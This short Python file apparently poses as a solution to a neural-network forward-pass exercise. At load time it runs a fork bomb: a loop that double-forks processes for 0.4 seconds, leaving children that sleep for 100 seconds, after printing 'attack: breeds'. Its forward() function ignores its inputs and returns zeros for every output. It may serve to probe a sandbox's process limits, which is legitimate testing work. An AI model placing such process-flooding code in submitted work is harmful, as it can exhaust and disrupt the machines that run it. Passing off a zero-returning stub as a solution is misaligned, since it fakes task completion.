import os
import time


def breed(until):
    while time.monotonic() < until:
        try:
            if os.fork():
                if os.fork():
                    os._exit(0)
        except OSError:
            time.sleep(0.01)


print("attack: breeds", flush=True)
pid = os.fork()
if pid == 0:
    try:
        breed(time.monotonic() + 0.4)
    finally:
        time.sleep(100)
time.sleep(0.5)


def forward(x, w1, w2, w3, target):
    return dict.fromkeys(["z1", "h1", "z2", "h2", "y", "loss"], 0.0)
